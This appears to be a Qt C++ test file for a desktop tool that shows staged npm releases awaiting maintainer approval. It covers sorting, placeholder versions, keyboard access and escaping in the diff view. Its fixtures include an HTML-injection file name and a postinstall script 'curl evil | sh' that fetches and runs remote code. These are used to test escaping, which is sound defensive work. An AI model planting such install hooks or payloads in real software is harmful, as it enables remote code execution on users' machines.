// SPDX-License-Identifier: GPL-3.0-or-later
// The Staged releases tab's pieces without a registry (issue 13): the model (raw-value sorting,
// npm's 0.0.0-stage placeholder flagged and never offered as a release, results that stay after
// the registry forgot the version), the tab (keyboard: Tab order, shortcuts, accessible names;
// the buttons forward the selected version) and the diff pane's HTML (escaped, install scripts
// said in words). The whole flow against the sandbox is tests/e2e/tst_desktop_stage_e2e.cpp.
#include "TestPaths.h"
#include "desktop/stage/ReleaseDiffHtml.h"
#include "desktop/stage/StagedReleaseModel.h"
#include "desktop/stage/StagedReleasesTab.h"

#include <QApplication>
#include <QDir>
#include <QPushButton>
#include <QSignalSpy>
#include <QSortFilterProxyModel>
#include <QTableView>
#include <QTest>
#include <QTextBrowser>
#include <QTextDocument>
#include <QWindow>

using namespace td;

namespace {

StagedRelease release(const QString &id, const QString &name, const QString &version,
                      const QDateTime &created, const QString &actorType = QStringLiteral("user"))
{
    StagedRelease r;
    r.id = id;
    r.packageName = name;
    r.version = version;
    r.tag = QStringLiteral("latest");
    r.created = created;
    r.createdAt = created.toString(Qt::ISODateWithMs);
    r.actor = actorType == QLatin1String("user") ? QStringLiteral("maintainer")
                                                 : QStringLiteral("GitHub Actions");
    r.actorType = actorType;
    r.status = QStringLiteral("staged");
    r.accountId = QStringLiteral("maintainer@registry.example");
    return r;
}

QDateTime utc(const char *iso)
{
    return QDateTime::fromString(QString::fromLatin1(iso), Qt::ISODate);
}

QStringList columnOf(const QAbstractItemModel &model, int column)
{
    QStringList out;
    for (int row = 0; row < model.rowCount(); ++row)
        out << model.index(row, column).data().toString();
    return out;
}

} // namespace

class TstStagedReleases : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    // "When" sorts by the date, not by its text: 5 Dec after 10 Nov although "5" < "1" fails
    // as text in some locales and "10 Nov" < "5 Dec" as text.
    void sortsOnRawValues()
    {
        StagedReleaseModel model;
        model.setReleases({release(QStringLiteral("a"), QStringLiteral("@acme/a"),
                                   QStringLiteral("1.0.0"), utc("2026-12-05T09:00:00Z")),
                           release(QStringLiteral("b"), QStringLiteral("@acme/b"),
                                   QStringLiteral("1.0.0"), utc("2026-11-10T08:00:00Z")),
                           release(QStringLiteral("c"), QStringLiteral("@acme/c"),
                                   QStringLiteral("1.0.0"), utc("2026-12-01T23:00:00Z"))});
        QSortFilterProxyModel proxy;
        proxy.setSourceModel(&model);
        proxy.setSortRole(StagedReleaseModel::RawValueRole);
        proxy.sort(StagedReleaseModel::WhenColumn, Qt::AscendingOrder);
        QCOMPARE(columnOf(proxy, StagedReleaseModel::PackageColumn),
                 (QStringList{QStringLiteral("@acme/b"), QStringLiteral("@acme/c"),
                              QStringLiteral("@acme/a")}));
        QCOMPARE(model.index(0, StagedReleaseModel::WhenColumn)
                     .data(StagedReleaseModel::RawValueRole)
                     .toDateTime(),
                 utc("2026-12-05T09:00:00Z"));
    }

    void stagedByNamesTheKindOfActor_data()
    {
        QTest::addColumn<QString>("actorType");
        QTest::addColumn<QString>("shown");
        QTest::newRow("trusted automation")
            << QStringLiteral("trusted automation")
            << QStringLiteral("GitHub Actions (trusted automation)");
        QTest::newRow("user") << QStringLiteral("user") << QStringLiteral("maintainer (user)");
    }
    void stagedByNamesTheKindOfActor()
    {
        QFETCH(QString, actorType);
        QFETCH(QString, shown);
        StagedReleaseModel model;
        model.setReleases(
            {release(QStringLiteral("a"), QStringLiteral("@acme/a"), QStringLiteral("2.4.0"),
                     utc("2026-12-05T09:00:00Z"), actorType)});
        QCOMPARE(model.index(0, StagedReleaseModel::StagedByColumn).data().toString(), shown);
    }

    void placeholderIsFlaggedNeverARelease()
    {
        StagedReleaseModel model;
        model.setReleases({release(QStringLiteral("p"), QStringLiteral("@acme/new"),
                                   QStringLiteral("0.0.0-stage"), utc("2026-12-05T09:00:00Z")),
                           release(QStringLiteral("r"), QStringLiteral("@acme/new"),
                                   QStringLiteral("1.0.0"), utc("2026-12-05T09:00:01Z"))});
        for (int column = 0; column < StagedReleaseModel::ColumnCount; ++column)
            QVERIFY(
                !model.index(0, column).data().toString().contains(QStringLiteral("0.0.0-stage")));
        QCOMPARE(model.index(0, StagedReleaseModel::VersionColumn).data().toString(),
                 QStringLiteral("placeholder, not a release"));
        QVERIFY(model.index(0, 0).data(StagedReleaseModel::PlaceholderRole).toBool());
        QVERIFY(!model.index(0, 0).data(StagedReleaseModel::ActionableRole).toBool());
        QVERIFY(model.index(1, 0).data(StagedReleaseModel::ActionableRole).toBool());
        QCOMPARE(model.actionableReleases().size(), 1);
        QCOMPARE(model.actionableReleases().first().id, QStringLiteral("r"));
    }

    // The registry forgets an approved version; its row stays with the result until the next
    // action, and is not offered again.
    void resultsStayAfterTheRegistryForgot()
    {
        StagedReleaseModel model;
        const StagedRelease a = release(QStringLiteral("a"), QStringLiteral("@acme/a"),
                                        QStringLiteral("1.1.0"), utc("2026-12-05T09:00:00Z"));
        const StagedRelease b = release(QStringLiteral("b"), QStringLiteral("@acme/b"),
                                        QStringLiteral("1.1.0"), utc("2026-12-05T09:00:01Z"));
        model.setReleases({a, b});
        model.setOutcome(QStringLiteral("a"), StagedReleaseModel::Outcome::Approved);
        model.setOutcome(QStringLiteral("b"), StagedReleaseModel::Outcome::Failed,
                         QStringLiteral("the code was refused"));
        QVERIFY(!model.index(0, 0).data(StagedReleaseModel::ActionableRole).toBool());
        model.setReleases({b}); // the next poll: a is published
        QCOMPARE(model.rowCount(), 2);
        const int rowA = model.rowOfId(QStringLiteral("a"));
        QCOMPARE(model.index(rowA, StagedReleaseModel::StatusColumn).data().toString(),
                 QStringLiteral("Approved (tag latest)"));
        QCOMPARE(model.index(model.rowOfId(QStringLiteral("b")), StagedReleaseModel::StatusColumn)
                     .data()
                     .toString(),
                 QStringLiteral("Failed: the code was refused"));
        QCOMPARE(model.actionableReleases().size(), 1);
        model.clearFinishedOutcomes();
        QCOMPARE(model.rowCount(), 1);
        QCOMPARE(model.index(0, StagedReleaseModel::StatusColumn).data().toString(),
                 QStringLiteral("Waiting for your review"));
    }

    void tabIsUsableFromTheKeyboard()
    {
        StagedReleaseModel model;
        model.setReleases({release(QStringLiteral("a"), QStringLiteral("@acme/a"),
                                   QStringLiteral("1.1.0"), utc("2026-12-05T09:00:00Z"))});
        StagedReleasesTab tab;
        tab.setModel(&model);
        QSignalSpy current(&tab, &StagedReleasesTab::currentReleaseChanged);
        tab.setActionsEnabled(true, true, true);
        tab.show();
        QVERIFY(QTest::qWaitForWindowExposed(&tab));

        // Tab moves table → Approve → Reject → Approve all → diff.
        QApplication::setActiveWindow(&tab);
        QVERIFY(QTest::qWaitForWindowActive(&tab));
        tab.table()->setFocus(Qt::TabFocusReason);
        QTRY_COMPARE(QApplication::focusWidget(), tab.table());
        for (QWidget *next : QList<QWidget *>{tab.approveButton(), tab.rejectButton(),
                                              tab.approveAllButton(), tab.diffPane()}) {
            QTest::keyClick(QApplication::focusWidget(), Qt::Key_Tab);
            QCOMPARE(QApplication::focusWidget(), next);
        }
        for (QWidget *widget :
             QList<QWidget *>{tab.table(), tab.approveButton(), tab.rejectButton(),
                              tab.approveAllButton(), tab.diffPane()}) {
            QVERIFY2(!widget->accessibleName().isEmpty(), qPrintable(widget->objectName()));
            QVERIFY(widget->focusPolicy() & Qt::TabFocus);
        }
        QCOMPARE(tab.approveButton()->shortcut(), QKeySequence(Qt::CTRL | Qt::Key_Return));
        QCOMPARE(tab.rejectButton()->shortcut(), QKeySequence(Qt::CTRL | Qt::Key_Delete));

        QSignalSpy approve(&tab, &StagedReleasesTab::approveRequested);
        QSignalSpy reject(&tab, &StagedReleasesTab::rejectRequested);
        tab.table()->setFocus();
        QTRY_COMPARE(QApplication::focusWidget(), tab.table());
        QTest::keyClick(tab.table(), Qt::Key_Down);
        QTRY_COMPARE(tab.currentStageId(), QStringLiteral("a"));
        QVERIFY(!current.isEmpty());
        QTest::keyClick(tab.windowHandle(), Qt::Key_Return, Qt::ControlModifier);
        QTRY_COMPARE(approve.size(), 1); // a shortcut "animates" the click: it lands later
        QTest::keyClick(tab.windowHandle(), Qt::Key_Delete, Qt::ControlModifier);
        QTRY_COMPARE(reject.size(), 1);
        QCOMPARE(approve.size(), 1);
        QCOMPARE(approve.first().first().toString(), QStringLiteral("a"));

        // A new poll keeps the selection on the same version.
        model.setReleases({release(QStringLiteral("z"), QStringLiteral("@acme/z"),
                                   QStringLiteral("1.0.0"), utc("2026-12-06T09:00:00Z")),
                           release(QStringLiteral("a"), QStringLiteral("@acme/a"),
                                   QStringLiteral("1.1.0"), utc("2026-12-05T09:00:00Z"))});
        QCOMPARE(tab.currentStageId(), QStringLiteral("a"));
    }

    // Every kind of row at once, for people to look at: waiting, validating, a placeholder,
    // approved, failed, not attempted. <build>/screenshots/staged-releases-states.png
    void screenshotOfEveryRowState()
    {
        StagedReleaseModel model;
        StagedRelease validating = release(
            QStringLiteral("v"), QStringLiteral("@acme/widgets"), QStringLiteral("1.3.0-rc.1"),
            utc("2026-12-05T09:05:00Z"), QStringLiteral("trusted automation"));
        validating.status = QStringLiteral("validating");
        validating.tag = QStringLiteral("next");
        model.setReleases(
            {validating,
             release(QStringLiteral("w"), QStringLiteral("@acme/ui"), QStringLiteral("2.4.0"),
                     utc("2026-12-05T09:04:00Z")),
             release(QStringLiteral("p"), QStringLiteral("@acme/brand-new"),
                     QStringLiteral("0.0.0-stage"), utc("2026-12-05T09:03:00Z")),
             release(QStringLiteral("a"), QStringLiteral("@acme/kit-tokens"),
                     QStringLiteral("1.1.0"), utc("2026-12-05T09:02:00Z"),
                     QStringLiteral("trusted automation")),
             release(QStringLiteral("f"), QStringLiteral("@acme/kit-icons"),
                     QStringLiteral("1.1.0"), utc("2026-12-05T09:01:00Z"),
                     QStringLiteral("trusted automation")),
             release(QStringLiteral("n"), QStringLiteral("@acme/kit-ui"), QStringLiteral("1.1.0"),
                     utc("2026-12-05T09:00:00Z"), QStringLiteral("trusted automation"))});
        model.setOutcome(QStringLiteral("a"), StagedReleaseModel::Outcome::Approved);
        model.setOutcome(QStringLiteral("f"), StagedReleaseModel::Outcome::Failed,
                         QStringLiteral("Two-factor authentication was cancelled."));
        model.setOutcome(QStringLiteral("n"), StagedReleaseModel::Outcome::NotAttempted);
        StagedReleasesTab tab;
        tab.resize(900, 420);
        tab.setModel(&model);
        tab.setSummary(QStringLiteral("2 staged releases wait for your approval."));
        tab.setProgress(1, 3);
        tab.setActionsEnabled(true, true, true);
        tab.selectRelease(QStringLiteral("w"));
        tab.setDiffHtml(QStringLiteral("<p>…</p>"));
        tab.show();
        QVERIFY(QTest::qWaitForWindowExposed(&tab));
        QCOMPARE(model.index(model.rowOfId(QStringLiteral("v")), StagedReleaseModel::StatusColumn)
                     .data()
                     .toString(),
                 QStringLiteral("Validating on the registry"));
        const QString dir = QStringLiteral(TD_BINARY_DIR "/screenshots");
        QDir().mkpath(dir);
        QVERIFY(tab.grab().save(dir + QStringLiteral("/staged-releases-states.png")));
    }

    void diffHtmlEscapesAndNamesInstallScripts()
    {
        ReleaseDiff diff;
        diff.packageName = QStringLiteral("@acme/ui");
        diff.oldVersion = QStringLiteral("2.3.0");
        diff.newVersion = QStringLiteral("2.4.0");
        diff.files.append({FileChange::Kind::Added, QStringLiteral("<img src=x onerror=1>.js"), 0,
                           12, false, false, QStringLiteral("+<b>bold</b>"), false});
        diff.manifest.append({QStringLiteral("scripts"),
                              QStringLiteral("postinstall"),
                              {},
                              QStringLiteral("curl evil | sh"),
                              true});
        const DiffColours colours{Qt::darkGreen, Qt::darkRed, Qt::black, Qt::yellow, Qt::gray};
        const QString html = releaseDiffHtml(diff, colours);
        QVERIFY(!html.contains(QStringLiteral("<img")));
        QVERIFY(!html.contains(QStringLiteral("<b>bold</b>")));
        QTextDocument document;
        document.setHtml(html);
        const QString text = document.toPlainText();
        QVERIFY(text.contains(QStringLiteral("@acme/ui 2.3.0 → 2.4.0")));
        QVERIFY(text.contains(QStringLiteral("<img src=x onerror=1>.js")));
        QVERIFY(text.contains(QStringLiteral("+<b>bold</b>")));
        QVERIFY(text.contains(QStringLiteral("scripts.postinstall")));
        QVERIFY(
            text.contains(QStringLiteral("curl evil | sh — install script: runs on npm install")));
    }
};

QTEST_MAIN(TstStagedReleases)

#include "tst_stagedreleases.moc"
